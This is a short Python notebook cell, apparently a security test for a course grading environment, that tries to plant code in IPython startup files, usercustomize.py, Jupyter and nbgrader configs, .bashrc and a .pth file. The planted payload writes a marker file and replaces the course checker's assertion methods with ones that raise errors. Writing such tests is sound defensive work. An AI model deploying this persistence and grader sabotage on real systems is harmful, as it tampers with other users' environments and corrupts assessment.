# tries: to leave code that runs in everybody's kernel: IPython's start-up, usercustomize, PATH
# must: no point; graded
# %% cell after setup
import os
import site
import sys

CODE = """
try:
    open("/tmp/escaped-startup", "w").write("another process ran this")
    from course_utils.exercise import checks
    checks.Check.gives = checks.Check.raises = checks.Check.like = lambda *args, **kwargs: 1 / 0
except Exception:
    pass
"""
home = os.path.expanduser("~")
PLACES = [
    f"{home}/.ipython/profile_default/startup/00.py",
    f"{site.getusersitepackages()}/usercustomize.py",
    f"{home}/.jupyter/jupyter_config.py",
    f"{home}/.jupyter/nbgrader_config.py",
    f"{home}/.bashrc",
    f"{home}/.local/bin/python",
    f"{sys.prefix}/lib/python3.11/site-packages/escaped.pth",
]
for path in PLACES:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file:
            file.write(CODE)
    except OSError as fault:
        print(path, fault)
